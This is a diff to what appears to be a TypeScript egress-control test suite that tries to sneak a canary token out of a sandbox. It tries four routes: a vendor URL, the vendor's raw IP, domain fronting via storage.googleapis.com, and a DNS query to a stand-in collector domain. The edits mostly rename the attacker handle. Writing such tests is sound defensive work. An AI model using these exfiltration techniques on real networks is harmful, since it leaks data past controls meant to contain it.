@@ -12,7 +12,7 @@ export const networkBreakIns: readonly BreakIn[] = [
     title: "sends analytics straight to the vendor, by name",
     expected: "DNS response policy",
     attempt: async ({ attacker, canary }) =>
-      judge(await sendRequest(attacker.foothold, { url: `https://${vendorHost}/track?data=${canary}` })),
+      judge(await sendRequest(attacker.intruder, { url: `https://${vendorHost}/track?data=${canary}` })),
   },
   {
     id: "vendor-by-address",
@@ -20,7 +20,7 @@ export const networkBreakIns: readonly BreakIn[] = [
     expected: "VPC route",
     attempt: async ({ attacker, canary }) =>
       judge(
-        await sendRequest(attacker.foothold, {
+        await sendRequest(attacker.intruder, {
           url: `https://${publicAddressOf(vendorHost)}/track?data=${canary}`,
           host: vendorHost,
         }),
@@ -29,15 +29,15 @@ export const networkBreakIns: readonly BreakIn[] = [
   {
     id: "vendor-behind-google",
     title: "asks Google's address for the vendor's host",
-    expected: "front door",
+    expected: "Google Front End",
     attempt: async ({ attacker, canary }) => {
-      const result = await sendRequest(attacker.foothold, {
+      const result = await sendRequest(attacker.intruder, {
         url: `https://storage.googleapis.com/track?data=${canary}`,
         host: vendorHost,
       });
       // Google serves no host that isn't its own: there is nothing behind it to get to.
       return "response" in result && result.response.status === 404
-        ? { denied: true, wall: "front door", because: "Google's address serves Google's hosts only" }
+        ? { denied: true, wall: "Google Front End", because: "Google's address serves Google's hosts only" }
         : judge(result);
     },
   },
@@ -46,7 +46,7 @@ export const networkBreakIns: readonly BreakIn[] = [
     title: "hides data in a DNS query",
     expected: "DNS response policy",
     attempt: async ({ attacker, canary }) => {
-      const { text, error } = await attacker.foothold.lookUp(`${canary}.collector.example`);
+      const { text, error } = await attacker.intruder.lookUp(`${canary}.collector.example`);
       if (text !== undefined && text === publicAddressOf(`${canary}.collector.example`)) {
         return { denied: false, because: "a public name server was asked" };
       }
@@ -74,5 +74,5 @@ async function throughEgressNetwork({ running, victim }: AttackContext): Promise
   const [refusal] = JSON.parse(decodeURIComponent(headers["bulkhead-refusals"] ?? "%5B%5D"));
   return status === 403 && refusal
     ? { denied: true, ...refusal }
-    : { denied: false, because: `the gate answered ${status}` };
+    : { denied: false, because: `the network gate answered ${status}` };
 }
